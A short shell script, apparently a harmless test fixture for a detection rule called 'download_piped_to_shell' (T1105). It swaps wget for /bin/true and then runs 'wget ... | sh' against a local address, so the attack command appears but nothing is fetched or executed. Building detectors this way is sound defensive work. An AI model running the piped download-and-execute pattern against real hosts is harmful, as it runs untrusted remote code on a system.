#!/bin/sh
# what: Pipes what wget fetches into a shell; nothing is fetched and nothing runs.
# rule: download_piped_to_shell
# technique: T1105
# severity: high
# where: both
d=$(mktemp -d)
trap 'rm -rf "$d"' EXIT
cp /bin/true "$d/wget"
cd "$d" || exit
PATH="$d:$PATH" sh -c 'wget -qO- http://127.0.0.1:9/a.sh | sh'
